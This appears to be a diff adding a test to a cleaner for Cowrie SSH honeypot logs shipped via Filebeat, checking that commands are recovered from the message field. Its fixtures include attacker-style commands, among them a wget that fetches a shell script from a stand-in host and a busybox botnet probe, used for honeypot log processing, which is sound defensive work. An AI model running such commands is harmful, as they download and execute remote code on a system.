@@ -239,6 +239,18 @@ describe("CowrieEventCleaner", () => {
       assert.equal(rejection(cleaner.clean({ ...shipped, session: "third", "@timestamp": "yesterday" })), "bad-timestamp");
     });
 
+    it("Filebeat's own `input` in place of a command's: the command from Cowrie's message", () => {
+      // Cowrie's documented Filebeat -> Logstash pipeline (cowrie/cowrie#1392, 2020): Filebeat's input {type: "log"} stays and the command's input is lost.
+      const shipped = (eventid: string, second: number, message: string) => cowrie2(eventid, second, {
+        input: { type: "log" }, message, agent: { type: "filebeat" }, ecs: { version: "1.5.0" }, log: { file: {} }, type: "cowrie",
+      });
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 1, "CMD: uname -a; wget http://x/y.sh"))).input, "uname -a; wget http://x/y.sh");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.failed", 2, "Command not found: busybox ECCHI"))).input, "busybox ECCHI");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.success", 3, "Command found: enable"))).input, "enable");
+      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 4, "something else"))).input, "unknown");
+      assert.equal(clean(cleaner.clean(cowrie2("cowrie.command.input", 5, { input: "ls", message: "CMD: cat" }))).input, "ls", "Cowrie's own input first");
+    });
+
     it("normalises IPv6 and IPv4-mapped addresses and knows internal ones", () => {
       const v6 = clean(cleaner.clean(cowrie2("cowrie.session.connect", 1, { src_ip: "2001:DB8:0:0::7", dst_ip: "FD00::2", src_port: 1, dst_port: 22 })));
       assert.deepEqual([v6.src_ip, v6.dst_ip, v6.is_internal_ip], ["2001:db8::7", "fd00::2", false]);
